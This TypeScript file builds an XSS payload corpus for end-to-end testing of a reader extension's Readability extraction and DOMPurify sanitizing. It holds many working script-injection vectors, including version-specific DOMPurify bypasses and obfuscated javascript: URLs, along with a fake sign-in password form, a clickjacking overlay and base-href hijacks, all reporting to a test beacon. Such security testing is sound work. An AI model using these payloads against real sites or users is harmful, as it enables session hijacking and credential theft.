/**
 * XSS corpus for the end-to-end tests: hostile markup that is pushed through extraction (Readability, in the
 * content script) and rendering (DOMPurify, in the chrome-extension:// reader) in real Chromium.
 *
 * How a payload reports that it ran
 * ---------------------------------
 * Every payload that runs script calls the beacon with
 *
 *     `${beacon}?id=<id>&where=` + encodeURIComponent(location.href) + `&origin=` + encodeURIComponent(self.origin)
 *
 * (by `fetch` unless said otherwise; some use `new Image().src=`, `navigator.sendBeacon` (a POST) or `import()`).
 * `where` tells the page itself from the reader; `origin` is added because script that runs inside an
 * about:blank / about:srcdoc frame reports `where=about:srcdoc`, while its `origin` is inherited from the
 * embedding page (so `chrome-extension://…` means it ran inside the reader).
 * Vectors that make a request WITHOUT running script (a CSS `@import`, a form's `action`, `<a ping>`, `<base>`)
 * use `${beacon}?id=<id>&where=static`; the server cannot know their context except from the Referer header.
 * `<base href>` hijacks use `${beacon}/base/<id>/`, so a beacon server should record any path under the beacon.
 *
 * The JS that calls the beacon never contains `"`, `&`, `<`, `>`, `;` or (except the `img` variant) whitespace, so
 * the same snippet can sit in a quoted or unquoted attribute, a `javascript:` URL, a `data:` URL, raw text, or an
 * SVG `values` list. `&` is written `\x26` inside the JS string.
 *
 * `kind` (see XssKind) says how a vector works, `trigger` what it needs from a user. A beacon hit from the reader
 * for a `kind: 'exec'` payload is script execution (a real XSS); for `css` / `navigation` it is a request the reader
 * let page content make (tracking, phishing, clickjacking), which is a different, lesser failure.
 *
 * Behind the MV3 default CSP (`script-src 'self'`) no `exec` payload can fire in the reader even if the sanitizer let
 * it through: in Chromium 156 with that CSP and NO sanitizing, only the `css` / `navigation` vectors reached the
 * beacon. So a reader test should also (a) listen for `securitypolicyviolation` events / "violates the following
 * Content Security Policy" console messages (each one is markup the sanitizer should have removed) and (b) inspect
 * the reader DOM (on* attributes, javascript:/data: URLs, script/iframe/object/embed/base/meta/link/style/form).
 *
 * Use `marker` to find a payload in extracted or sanitized HTML, and xssArticlePagePayloads() for everything that
 * xssArticlePage() contains (with `--head` / `--outside` copies). `npx tsx e2e/xss/check-corpus.mjs` checks the
 * corpus and shows what Readability keeps and what DOMPurify's defaults leave.
 */

/**
 * - `exec`: runs JavaScript when it works; its html always contains the beacon.
 * - `navigation`: no script; works by loading or navigating to a URL (form action, ping, meta refresh to http,
 *   `<base>`, privileged `chrome-extension://` / `chrome://` / `file:` targets). May or may not contain the beacon.
 * - `css`: works through CSS: a request from `@import` / `url()`, a full-page overlay, or legacy script-in-CSS
 *   (`expression()`, `-moz-binding`, `behavior`) that no current browser runs.
 * - `clobber`: DOM clobbering: no script and no request; named elements shadow `document.*` / `window.*` /
 *   `form.*` properties that page, content-script or sanitizer code might read. (Not in the original brief's
 *   list of three: it fits none of them.)
 */
export type XssKind = 'exec' | 'navigation' | 'css' | 'clobber';

/** What a user has to do for the vector to fire (`auto`: nothing; loading/rendering is enough). */
export type XssTrigger = 'auto' | 'click' | 'hover' | 'submit';

export interface XssPayload {
  /** Unique; `[a-z0-9-]+`. Copies that xssArticlePage puts outside the article get `--head` / `--outside`. */
  id: string;
  category: string;
  html: string;
  /** Default `exec`. */
  kind?: XssKind;
  /** Default `auto`. */
  trigger?: XssTrigger;
  /** Why the vector is interesting, when the markup alone does not say. */
  note?: string;
  /**
   * Text that finds this payload in extracted or sanitized HTML: `?id=<id>` for most, something else for the few
   * without a beacon URL (or with a base64 one: decode `base64,…` runs first). Check that the character after it is
   * not `[A-Za-z0-9-]`, so `x` does not also find `x--head`.
   */
  marker?: string;
}

export interface XssOptions {
  /**
   * Origin used by the `privileged` payloads, e.g. `chrome-extension://<id>` of the extension under test.
   * Default: a placeholder id.
   */
  extensionOrigin?: string;
}

export type XssPlacement = 'head' | 'outside' | 'article';

export interface PlacedXssPayload extends XssPayload {
  placement: XssPlacement;
}

/** A 1x1 GIF, so images that must load do so without a request. */
const GIF = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';
const BT = '`';
const DEFAULT_EXTENSION_ORIGIN = 'chrome-extension://aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa';

type Via = 'fetch' | 'img' | 'beacon' | 'import';

interface Kit {
  /** A JS expression that calls the beacon. `q` is the JS string quote: `'` (default) or a backtick. */
  js(id: string, via?: Via, q?: string): string;
  /** Beacon URL for requests made without script, raw `&` (for raw-text contexts such as `<style>`). */
  url(id: string): string;
  /** The same, `&` escaped, for attribute values. */
  urlAttr(id: string): string;
  /** Base URL for `<base href>` hijacks. */
  baseUrl(id: string): string;
  ext: string;
}

/**
 * Where xssArticlePage may put a payload: inside phrasing content, between blocks, only in <head>, at the end of the
 * article, or as the very last thing in the document.
 */
type Place = 'inline' | 'block' | 'head' | 'end' | 'last';

interface Def {
  id: string;
  category: string;
  kind: XssKind;
  trigger: XssTrigger;
  note?: string;
  make: (id: string) => string;
  /** Forced placement; otherwise inline/block is worked out from the markup. */
  place?: Place;
  /** xssArticlePage also puts a copy (id + `--head`) in <head>: only head-legal markup. */
  headCopy?: boolean;
  /** xssArticlePage also puts a copy (id + `--outside`) in the page chrome outside the article. */
  outsideCopy?: boolean;
  /** Text that identifies the payload in extracted HTML when it has no beacon URL. */
  marker?: string;
  /** Makes extraction of the whole page fail, so xssArticlePage leaves it out. */
  breaksExtraction?: boolean;
}

function kit(beacon: string, ext: string): Kit {
  // The beacon ends up inside JS strings, CSS url()s and attributes, unescaped: keep it to a plain URL.
  if (!/^https?:\/\/[A-Za-z0-9.\-:[\]]+(\/[A-Za-z0-9._~\-/]*)?$/.test(beacon)) {
    throw new Error(`xss payloads: beacon must be a plain http(s) URL without query or fragment, got ${beacon}`);
  }
  if (!/^[a-z-]+:\/\/[A-Za-z0-9._-]+$/.test(ext)) {
    throw new Error(`xss payloads: extensionOrigin must look like chrome-extension://<id>, got ${ext}`);
  }
  return {
    js(id, via = 'fetch', q = "'") {
      const u =
        `${q}${beacon}?id=${id}\\x26where=${q}+encodeURIComponent(location.href)` +
        `+${q}\\x26origin=${q}+encodeURIComponent(self.origin)`;
      switch (via) {
        case 'img':
          return `void(new Image().src=${u})`;
        case 'beacon':
          return `void(navigator.sendBeacon(${u}))`;
        case 'import':
          return `void(import(${u}).catch(String))`;
        default:
          return `void(fetch(${u}))`;
      }
    },
    url: (id) => `${beacon}?id=${id}&where=static`,
    urlAttr: (id) => `${beacon}?id=${id}&amp;where=static`,
    baseUrl: (id) => `${beacon}/base/${id}/`,
    ext,
  };
}

function defs(k: Kit): Def[] {
  const out: Def[] = [];
  const add = (
    category: string,
    id: string,
    make: (id: string) => string,
    extra: Partial<Omit<Def, 'id' | 'category' | 'make'>> = {},
  ): void => {
    out.push({ category, id, make, kind: 'exec', trigger: 'auto', ...extra });
  };
  const J = (id: string): string => k.js(id);
  /** JS using backticks, for places where `'` is already the outer quote (SVG in a data: URL, setTimeout). */
  const JB = (id: string): string => k.js(id, 'fetch', BT);
  const svgDoc = (id: string): string => `<svg xmlns='http://www.w3.org/2000/svg' onload='${JB(id)}'/>`;
  const b64 = (s: string): string => btoa(s);

  // ───────────────────────── script elements
  add('script', 'script-plain', (id) => `<script>${J(id)}</script>`, { headCopy: true, outsideCopy: true });
  add('script', 'script-uppercase', (id) => `<SCRIPT>${J(id)}</SCRIPT>`);
  add('script', 'script-src-beacon', (id) => `<script src="${k.urlAttr(id)}"></script>`, {
    note: 'the script request itself is the hit (where=static); the server may answer with more JS',
  });
  add('script', 'script-src-data', (id) => `<script src="data:text/javascript,${J(id)}"></script>`);
  add('script', 'script-split-tag', (id) => `<scr<script>ipt>${J(id)}</scr</script>ipt>`, {
    note: 'inert as parsed by a browser; becomes <script> for a filter that deletes "<script>" once',
  });
  add('script', 'script-double-open', (id) => `<<script>${J(id)}//<</script>`);
  add('script', 'script-slash-attr', (id) => `<script/x>${J(id)}</script>`);
  add('script', 'script-whitespace-tag', (id) => `<script\n>${J(id)}</script\t\n>`);
  add('script', 'script-html-comment', (id) => `<script><!--\n${J(id)}\n--></script>`);
  add('script', 'script-type-module', (id) => `<script type="module">${J(id)}</script>`);
  add('script', 'script-type-ecmascript', (id) => `<script type="text/ecmascript">${J(id)}</script>`);

  // ───────────────────────── event handlers
  add('handler', 'handler-img-onerror', (id) => `<img src="x" onerror="${J(id)}">`, { outsideCopy: true });
  add('handler', 'handler-img-uppercase', (id) => `<IMG SRC="x" OnErRoR="${J(id)}">`);
  add('handler', 'handler-img-slashes', (id) => `<img/src="x"/onerror="${J(id)}">`);
  add('handler', 'handler-img-formfeed', (id) => `<img src="x"\fonerror="${J(id)}">`, {
    note: 'form feed (U+000C) as the attribute separator',
  });
  add('handler', 'handler-img-onload', (id) => `<img src="${GIF}" onload="${J(id)}" alt="">`);
  add('handler', 'handler-img-new-image', (id) => `<img src="x" onerror="${k.js(id, 'img')}">`);
  add('handler', 'handler-img-sendbeacon', (id) => `<img src="x" onerror="${k.js(id, 'beacon')}">`);
  add('handler', 'handler-settimeout-string', (id) => `<img src="x" onerror="setTimeout('${JB(id)}')">`);
  add('handler', 'handler-dynamic-import', (id) => `<img src="x" onerror="${k.js(id, 'import')}">`, {
    note: 'the import() request itself is the hit',
  });
  add('handler', 'handler-body-onload', (id) => `<body onload="${J(id)}">`, {
    note: 'a second <body> tag merges its attributes into the real body, so it never shows up in the article',
  });
  add('handler', 'handler-body-onpageshow', (id) => `<body onpageshow="${J(id)}">`);
  add(
    'handler',
    'handler-mouseover',
    (id) =>
      `<p onmouseover="${J(id)}" style="padding:1em;border:1px dashed #999">Move the pointer over this ` +
      `paragraph to see where each of the pumping stations sits on the district map.</p>`,
    { trigger: 'hover' },
  );
  add('handler', 'handler-input-autofocus', (id) => `<input onfocus="${J(id)}" autofocus>`, {
    note: 'only the first autofocus element of a document gets focus',
  });
  add(
    'handler',
    'handler-tabindex-autofocus',
    (id) => `<span tabindex="0" autofocus onfocus="${J(id)}">Eastgate treatment plant</span>`,
  );
  add(
    'handler',
    'handler-animationstart',
    (id) =>
      `<style>@keyframes qari-xss{from{outline-color:red}to{outline-color:blue}}</style>` +
      `<b style="animation:qari-xss 1s" onanimationstart="${J(id)}">chlorine dosing</b>`,
  );
  add(
    'handler',
    'handler-animationend-custom-element',
    (id) =>
      `<qari-xss style="display:block;animation:qari-xss 10ms" onanimationend="${J(id)}">` +
      `Valve schedule for the northern district.</qari-xss>`,
    { note: 'relies on the @keyframes of handler-animationstart (or of any page style)' },
  );
  add(
    'handler',
    'handler-details-ontoggle',
    (id) =>
      `<details open ontoggle="${J(id)}"><summary>Appendix B: systems inspected</summary>` +
      `<p>SCADA servers, historian, billing, and the operator workstations at both pumping stations.</p></details>`,
  );
  add(
    'handler',
    'handler-svg-animate-onbegin',
    (id) => `<svg width="1" height="1"><animate onbegin="${J(id)}" attributeName="x" dur="1s"/></svg>`,
  );
  add('handler', 'handler-marquee-onstart', (id) => `<marquee onstart="${J(id)}">Boil-water notice lifted</marquee>`);
  add('handler', 'handler-video-source-onerror', (id) => `<video controls><source src="x" onerror="${J(id)}"></video>`);
  add('handler', 'handler-audio-onerror', (id) => `<audio src="x" onerror="${J(id)}"></audio>`);
  add('handler', 'handler-input-image-onerror', (id) => `<input type="image" src="x" alt="" onerror="${J(id)}">`);
  add('handler', 'handler-style-onload', (id) => `<style onload="${J(id)}"></style>`, { headCopy: true });
  add('handler', 'handler-link-onload', (id) => `<link rel="stylesheet" href="data:text/css,b{}" onload="${J(id)}">`);
  add('handler', 'handler-iframe-onload', (id) => `<iframe onload="${J(id)}" width="1" height="1"></iframe>`);
  add(
    'handler',
    'handler-content-visibility',
    (id) =>
      `<span style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="${J(id)}">` +
      `Figures are in US dollars.</span>`,
  );
  add(
    'handler',
    'handler-popover-beforetoggle',
    (id) =>
      `<button popovertarget="qari-pop">Methodology</button>` +
      `<span id="qari-pop" popover onbeforetoggle="${J(id)}">Interviews, site visits and a network scan.</span>`,
    { trigger: 'click' },
  );

  // ───────────────────────── javascript: URLs
  add('javascript-url', 'jsurl-a-plain', (id) => `<a href="javascript:${J(id)}">the full audit report</a>`, {
    trigger: 'click',
    outsideCopy: true,
  });
  add('javascript-url', 'jsurl-a-mixed-case', (id) => `<a href="JaVaScRiPt:${J(id)}">board minutes</a>`, {
    trigger: 'click',
    note: 'Readability only unwraps links whose href starts with lowercase "javascript:"',
  });
  add('javascript-url', 'jsurl-a-tab-entity', (id) => `<a href="jav&#x09;ascript:${J(id)}">consultant's letter</a>`, {
    trigger: 'click',
    note: 'URL parsing drops the tab; Readability resolves it to a clean javascript: URL',
  });
  add('javascript-url', 'jsurl-a-newline-entity', (id) => `<a href="java&#10;script:${J(id)}">rate table</a>`, {
    trigger: 'click',
  });
  add('javascript-url', 'jsurl-a-decimal-entity', (id) => `<a href="&#106;avascript:${J(id)}">press release</a>`, {
    trigger: 'click',
  });
  add(
    'javascript-url',
    'jsurl-a-hex-entities',
    (id) =>
      `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${J(id)}">2016 upgrade notes</a>`,
    { trigger: 'click' },
  );
  add('javascript-url', 'jsurl-a-colon-entity', (id) => `<a href="javascript&colon;${J(id)}">state statement</a>`, {
    trigger: 'click',
  });
  add(
    'javascript-url',
    'jsurl-a-leading-controls',
    (id) => `<a href="&#x20;&#x0A;&#x01;&#x1F; javascript:${J(id)}">advisory panel</a>`,
    { trigger: 'click', note: 'leading spaces and C0 controls are stripped by the URL parser' },
  );
  add(
    'javascript-url',
    'jsurl-a-unicode-escape',
    (id) => `<a href="javascript:${J(id).replace('fetch(', '\\u0066etch(')}">council agenda</a>`,
    { trigger: 'click', note: 'JS identifier escape: no literal "fetch" in the markup' },
  );
  add(
    'javascript-url',
    'jsurl-a-percent-encoded',
    (id) => `<a href="javascript:%76oid${J(id).slice('void'.length)}">budget papers</a>`,
    { trigger: 'click', note: 'javascript: URLs are percent-decoded before they run' },
  );
  add(
    'javascript-url',
    'jsurl-area-href',
    (id) =>
      `<map name="qari-district-map"><area shape="rect" coords="0,0,320,180" href="javascript:${J(id)}" ` +
      `alt="Northern district"></map><img src="${GIF}" usemap="#qari-district-map" width="320" height="180" ` +
      `alt="Map of the northern supply district">`,
    { trigger: 'click' },
  );
  add('javascript-url', 'jsurl-iframe-src', (id) => `<iframe src="javascript:${J(id)}" width="1" height="1"></iframe>`);
  add(
    'javascript-url',
    'jsurl-iframe-video-allowlist',
    (id) =>
      `<iframe src="javascript:${J(id)}" title="https://www.youtube.com/embed/qari-water-board" ` +
      `width="560" height="315"></iframe>`,
    { note: "any attribute matching Readability's video regex keeps an iframe through extraction" },
  );

  // ───────────────────────── data: URLs
  add(
    'data-url',
    'data-iframe-html',
    (id) => `<iframe src="data:text/html,<script>${J(id)}</script>" width="1" height="1"></iframe>`,
    { outsideCopy: true },
  );
  add(
    'data-url',
    'data-iframe-base64',
    (id) => `<iframe src="data:text/html;base64,${b64(`<script>${J(id)}</script>`)}" width="1" height="1"></iframe>`,
    { note: 'beacon URL only visible after base64-decoding' },
  );
  add(
    'data-url',
    'data-iframe-svg',
    (id) => `<iframe src="data:image/svg+xml,${svgDoc(id)}" width="1" height="1"></iframe>`,
  );
  add(
    'data-url',
    'data-iframe-video-allowlist',
    (id) =>
      `<iframe src="data:text/html,<script>${J(id)}</script>" ` +
      `name="//player.vimeo.com/video/qari" width="560" height="315"></iframe>`,
  );
  add('data-url', 'data-object-html', (id) => `<object data="data:text/html,<script>${J(id)}</script>"></object>`);
  add(
    'data-url',
    'data-embed-svg',
    (id) => `<embed type="image/svg+xml" src="data:image/svg+xml,${svgDoc(id)}" width="1" height="1">`,
  );
  add('data-url', 'data-a-html', (id) => `<a href="data:text/html,<script>${J(id)}</script>">printable version</a>`, {
    trigger: 'click',
    note: 'Chromium blocks top-level data: navigations',
  });
  add(
    'data-url',
    'data-a-base64-download',
    (id) =>
      `<a href="data:text/html;base64,${b64(`<script>${J(id)}</script>`)}" download="water-board-report.html">` +
      `download the summary</a>`,
    { trigger: 'click' },
  );
  add('data-url', 'data-img-svg', (id) => `<img src="data:image/svg+xml,${svgDoc(id)}" alt="Reservoir levels chart">`, {
    note: 'scripts never run in SVG used as an image; DOMPurify allows data: in img',
  });

  // ───────────────────────── vbscript:
  add(
    'vbscript',
    'vbscript-a',
    (id) => `<a href="vbscript:window.execScript(&quot;${J(id)}&quot;)">IE version of the report</a>`,
    { trigger: 'click', outsideCopy: true },
  );
  add(
    'vbscript',
    'vbscript-a-mixed-case',
    (id) => `<a href="VbScRiPt:window.execScript(&quot;${J(id)}&quot;)">archive</a>`,
    { trigger: 'click' },
  );
  add('vbscript', 'vbscript-label-in-handler', (id) => `<img src="x" onerror="vbscript:${J(id)}">`, {
    note: '"vbscript:" is just a JS label here, so this runs in every browser',
  });
  add('vbscript', 'vbscript-img-src', (id) => `<img src="vbscript:window.execScript(&quot;${J(id)}&quot;)" alt="">`);

  // ───────────────────────── SVG
  add('svg', 'svg-onload', (id) => `<svg onload="${J(id)}" width="1" height="1"></svg>`, { outsideCopy: true });
  add('svg', 'svg-slash-onload', (id) => `<svg/onload="${J(id)}"></svg>`);
  add('svg', 'svg-script', (id) => `<svg width="1" height="1"><script>${J(id)}</script></svg>`);
  add('svg', 'svg-script-cdata', (id) => `<svg width="1" height="1"><script><![CDATA[${J(id)}]]></script></svg>`);
  add(
    'svg',
    'svg-script-href',
    (id) => `<svg width="1" height="1"><script href="data:text/javascript,${J(id)}"></script></svg>`,
  );
  add(
    'svg',
    'svg-script-xlink-href',
    (id) => `<svg width="1" height="1"><script xlink:href="data:text/javascript,${J(id)}"></script></svg>`,
  );
  add(
    'svg',
    'svg-a-xlink-href',
    (id) =>
      `<svg width="240" height="24"><a xlink:href="javascript:${J(id)}">` +
      `<text x="0" y="18">Open the interactive map</text></a></svg>`,
    { trigger: 'click' },
  );
  add(
    'svg',
    'svg-a-href',
    (id) =>
      `<svg width="240" height="24"><a href="javascript:${J(id)}"><text x="0" y="18">Compare districts</text></a></svg>`,
    { trigger: 'click' },
  );
  add(
    'svg',
    'svg-animate-href',
    (id) =>
      `<svg width="240" height="24"><a><animate attributeName="href" values="javascript:${J(id)}"/>` +
      `<text x="0" y="18">Tap for station details</text></a></svg>`,
    { trigger: 'click' },
  );
  add(
    'svg',
    'svg-set-href',
    (id) =>
      `<svg width="240" height="24"><a><set attributeName="href" to="javascript:${J(id)}"/>` +
      `<text x="0" y="18">See the timeline</text></a></svg>`,
    { trigger: 'click' },
  );
  add(
    'svg',
    'svg-use-data-href',
    (id) =>
      `<svg width="1" height="1"><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>` +
      `<image href='x' onerror='${JB(id)}'/></svg>#x"/></svg>`,
  );
  add(
    'svg',
    'svg-use-data-xlink',
    (id) =>
      `<svg width="1" height="1"><use xlink:href="data:image/svg+xml;base64,` +
      `${b64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${JB(id)}'/></svg>`)}#x"/></svg>`,
  );
  add(
    'svg',
    'svg-foreignobject',
    (id) =>
      `<svg width="1" height="1"><foreignObject width="1" height="1"><img src="x" onerror="${J(id)}">` +
      `</foreignObject></svg>`,
  );
  add('svg', 'svg-image-onerror', (id) => `<svg width="1" height="1"><image href="x" onerror="${J(id)}"/></svg>`);

  // ───────────────────────── MathML
  add(
    'mathml',
    'math-mglyph-style',
    (id) =>
      `<math><mtext><table><mglyph><style><img src="x" onerror="${J(id)}"></style></mglyph></table></mtext></math>`,
    { note: 'namespace confusion: inert when parsed, live after serialize + re-parse', outsideCopy: true },
  );
  add(
    'mathml',
    'math-form-mglyph-style',
    (id) =>
      `<form><math><mtext></form><form><mglyph><style></math><img src="x" onerror="${J(id)}"></style>` +
      `</mglyph></mtext></math></form>`,
    { note: 'DOMPurify 2.0.17 bypass (nested forms)' },
  );
  add(
    'mathml',
    'math-mglyph-style-comment',
    (id) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;` +
      `onerror=${J(id)}&gt;"></mglyph></table></mtext></math>`,
    { note: 'DOMPurify 2.2.2 bypass' },
  );
  add(
    'mathml',
    'math-mglyph-xmp',
    (id) => `<math><mtext><table><mglyph><xmp><img src=x onerror=${J(id)}></xmp></mglyph></table></mtext></math>`,
    {
      note:
        'as math-mglyph-style, but with <xmp>, which Readability keeps (it drops every <style>): inert as parsed, ' +
        "live once Readability's content is serialized and parsed again",
    },
  );
  add('mathml', 'math-style-breakout', (id) => `<math><style><img src="x" onerror="${J(id)}"></style></math>`);
  add(
    'mathml',
    'math-annotation-xml-html',
    (id) => `<math><annotation-xml encoding="text/html"><img src="x" onerror="${J(id)}"></annotation-xml></math>`,
  );
  add('mathml', 'math-href', (id) => `<math href="javascript:${J(id)}"><mi>Q</mi><mo>=</mo><mi>vA</mi></math>`, {
    trigger: 'click',
  });
  add('mathml', 'math-mi-xlink-href', (id) => `<math><mi xlink:href="javascript:${J(id)}">flow</mi></math>`, {
    trigger: 'click',
  });

  // ───────────────────────── iframe srcdoc
  add('srcdoc', 'srcdoc-script', (id) => `<iframe srcdoc="<script>${J(id)}</script>" width="1" height="1"></iframe>`, {
    outsideCopy: true,
  });
  add(
    'srcdoc',
    'srcdoc-entity-encoded',
    (id) => `<iframe srcdoc="&lt;img src=x onerror=&quot;${J(id)}&quot;&gt;" width="1" height="1"></iframe>`,
  );
  add(
    'srcdoc',
    'srcdoc-video-allowlist',
    (id) =>
      `<iframe src="https://www.youtube-nocookie.com/embed/qari-water-board" ` +
      `srcdoc="<img src=x onerror=&quot;${J(id)}&quot;>" width="560" height="315" allowfullscreen></iframe>`,
    { note: 'srcdoc wins over src; the youtube src keeps it through Readability' },
  );
  add(
    'srcdoc',
    'srcdoc-sandbox-allow-scripts',
    (id) =>
      `<iframe sandbox="allow-scripts allow-same-origin" srcdoc="<script>${J(id)}</script>" ` +
      `width="1" height="1"></iframe>`,
  );
  add(
    'srcdoc',
    'srcdoc-nested',
    (id) =>
      `<iframe srcdoc="<iframe srcdoc=&quot;&amp;lt;script&amp;gt;${J(id)}&amp;lt;/script&amp;gt;&quot;></iframe>" ` +
      `width="1" height="1"></iframe>`,
  );

  // ───────────────────────── meta
  add('meta', 'meta-refresh-javascript', (id) => `<meta http-equiv="refresh" content="0;url=javascript:${J(id)}">`, {
    headCopy: true,
    outsideCopy: true,
  });
  add(
    'meta',
    'meta-refresh-data',
    (id) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${J(id)}</script>">`,
  );
  add('meta', 'meta-refresh-mixed-case', (id) => `<META HTTP-EQUIV="Refresh" CONTENT="0; URL='JaVaScRiPt:${JB(id)}'">`);
  add('meta', 'meta-refresh-http', (id) => `<meta http-equiv="refresh" content="600; url=${k.urlAttr(id)}">`, {
    kind: 'navigation',
    note: '600 s delay so the page under test is not navigated away while it is being extracted',
  });

  // ───────────────────────── base
  // In the article, the http hijack comes BEFORE the javascript: one, so that if <base> elements survived into the
  // reader, the first one (the one that counts) is the hijack. On the page itself the --head copy of base-javascript
  // is the first <base>, which Chromium refuses, so the page keeps its own base URL.
  add('base', 'base-href-hijack', (id) => `<base href="${k.baseUrl(id)}">`, {
    kind: 'navigation',
    place: 'end',
    marker: k.baseUrl('base-href-hijack'),
    note: "relative URLs load from <beacon>/base/<id>/…; at the end of the article because Chromium's preload scanner follows it even where the document does not",
  });
  add('base', 'base-href-javascript', (id) => `<base href="javascript:${J(id)}//">`, {
    trigger: 'click',
    place: 'end',
    headCopy: true,
    outsideCopy: true,
  });

  // ───────────────────────── link
  add('link', 'link-import-data', (id) => `<link rel="import" href="data:text/html,<script>${J(id)}</script>">`, {
    headCopy: true,
    outsideCopy: true,
    note: 'HTML imports are gone from Chromium',
  });
  add('link', 'link-import-beacon', (id) => `<link rel="import" href="${k.urlAttr(id)}">`, { kind: 'navigation' });
  add('link', 'link-stylesheet-beacon', (id) => `<link rel="stylesheet" href="${k.urlAttr(id)}">`, { kind: 'css' });
  add('link', 'link-prefetch-beacon', (id) => `<link rel="prefetch" href="${k.urlAttr(id)}">`, { kind: 'navigation' });

  // ───────────────────────── CSS
  add('css', 'css-style-import', (id) => `<style>@import url("${k.url(id)}");</style>`, {
    kind: 'css',
    headCopy: true,
    outsideCopy: true,
  });
  add(
    'css',
    'css-style-after-text',
    (id) => `<span>Figures were supplied by the board.</span><style>@import url("${k.url(id)}");</style>`,
    {
      kind: 'css',
      note:
        'DOMPurify drops a <style> that opens a fragment (the parser hoists it into <head>) but keeps one that ' +
        'follows content',
    },
  );
  add('css', 'css-style-import-string', (id) => `<style>@import '${k.url(id)}';</style>`, { kind: 'css' });
  add(
    'css',
    'css-font-face',
    (id) =>
      `<style>@font-face{font-family:qari-leak;src:url(${k.url(id)})}</style>` +
      `<span style="font-family:qari-leak">Figures were supplied by the board.</span>`,
    { kind: 'css' },
  );
  add('css', 'css-expression', (id) => `<span style="width:expression(${J(id)})">flow rates</span>`, {
    kind: 'css',
    note: 'IE only',
  });
  add(
    'css',
    'css-background-javascript',
    (id) => `<span style="background-image:url(&quot;javascript:${J(id)}&quot;)">pressure logs</span>`,
    { kind: 'css', note: 'legacy browsers only' },
  );
  add(
    'css',
    'css-background-beacon',
    (id) => `<span style="background-image:url('${k.urlAttr(id)}')">audit timeline</span>`,
    { kind: 'css', note: 'a plain tracking request; style attributes survive DOMPurify defaults' },
  );
  add(
    'css',
    'css-svg-style-beacon',
    (id) => `<svg width="10" height="10" style="background:url('${k.urlAttr(id)}')"></svg>`,
    { kind: 'css', note: 'Readability strips style attributes, but not on <svg>' },
  );
  add('css', 'css-moz-binding', (id) => `<span style="-moz-binding:url('${k.urlAttr(id)}#xss')">operators</span>`, {
    kind: 'css',
    note: 'old Firefox XBL',
  });
  add('css', 'css-behavior', (id) => `<span style="behavior:url('${k.urlAttr(id)}')">vendors</span>`, {
    kind: 'css',
    note: 'IE .htc',
  });
  add(
    'css',
    'css-fullpage-overlay',
    (id) =>
      `<a href="${k.urlAttr(id)}" style="position:fixed;top:0;left:0;width:100%;height:100%;` +
      `z-index:2147483647;opacity:0.01">Continue reading</a>`,
    { kind: 'css', trigger: 'click', note: 'clickjacking: an invisible link over the whole reader' },
  );

  // ───────────────────────── forms
  add(
    'form',
    'form-action-javascript',
    (id) => `<form action="javascript:${J(id)}"><input type="submit" value="Subscribe to water alerts"></form>`,
    { trigger: 'submit', outsideCopy: true },
  );
  add(
    'form',
    'form-button-formaction',
    (id) => `<form><button formaction="javascript:${J(id)}">Download the report (PDF)</button></form>`,
    { trigger: 'submit' },
  );
  add(
    'form',
    'form-input-formaction',
    (id) => `<form><input type="submit" formaction="javascript:${J(id)}" value="Confirm your address"></form>`,
    { trigger: 'submit' },
  );
  add(
    'form',
    'form-phishing-password',
    (id) =>
      `<form action="${k.urlAttr(id)}" method="post"><p>Your session has expired. Sign in to keep reading.</p>` +
      `<input name="email" type="email" placeholder="Email"><input name="password" type="password" ` +
      `placeholder="Password"><input type="submit" value="Sign in"></form>`,
    { kind: 'navigation', trigger: 'submit', note: 'forms survive DOMPurify defaults' },
  );

  // ───────────────────────── template / noscript mutation XSS
  add(
    'mxss',
    'mxss-noscript-title',
    (id) => `<noscript><p title="</noscript><img src=x onerror=${J(id)}>"></p></noscript>`,
    {
      note:
        'live where scripting is on (browsers), inert where it is off (jsdom, the DOMParser DOMPurify uses); ' +
        'the </p> lets a scripting-off parser close the <noscript> (else it swallows the rest of the page)',
    },
  );
  add('mxss', 'mxss-template-img', (id) => `<template><img src="x" onerror="${J(id)}"></template>`, {
    headCopy: true,
    outsideCopy: true,
    note: 'inert until someone clones template.content into a document',
  });
  add('mxss', 'mxss-template-script', (id) => `<template><script>${J(id)}</script></template>`);
  add(
    'mxss',
    'mxss-noscript-lazy-image',
    (id) =>
      `<img src="${GIF}" alt="The Eastgate treatment plant" width="640" height="360">` +
      `<noscript><img src="x" onerror="${J(id)}" alt="The Eastgate treatment plant"></noscript>`,
    { note: 'Readability re-parses a noscript that holds a single image and swaps it in (when scripting is off)' },
  );
  add('mxss', 'mxss-svg-p-style', (id) => `<svg></p><style><a id="</style><img src=1 onerror=${J(id)}>">`, {
    note: 'DOMPurify 2.0.0 bypass; </p> breaks out of foreign content',
  });

  // ───────────────────────── raw-text element breakouts
  add('rawtext', 'rawtext-xmp', (id) => `<xmp><p title="</xmp><img src=x onerror=${J(id)}>"></xmp>`, {
    outsideCopy: true,
  });
  add(
    'rawtext',
    'rawtext-textarea',
    (id) => `<textarea><p title="</textarea><img src=x onerror=${J(id)}>"></textarea>`,
  );
  add('rawtext', 'rawtext-title', (id) => `<title><p title="</title><img src=x onerror=${J(id)}>"></title>`);
  add('rawtext', 'rawtext-style', (id) => `<style><p title="</style><img src=x onerror=${J(id)}>"></style>`);
  add('rawtext', 'rawtext-noembed', (id) => `<noembed><p title="</noembed><img src=x onerror=${J(id)}>"></noembed>`);
  add(
    'rawtext',
    'rawtext-noframes',
    (id) => `<noframes><p title="</noframes><img src=x onerror=${J(id)}>"></noframes>`,
  );
  add('rawtext', 'rawtext-iframe', (id) => `<iframe><p title="</iframe><img src=x onerror=${J(id)}>"></iframe>`);
  add('rawtext', 'rawtext-plaintext', (id) => `<plaintext><img src=x onerror=${J(id)}>`, {
    place: 'last',
    note: '<plaintext> never ends: it must be the last thing in a document',
  });

  // ───────────────────────── comment / CDATA breaking
  add('comment', 'comment-abrupt-close', (id) => `<!--><img src="x" onerror="${J(id)}">-->`, { outsideCopy: true });
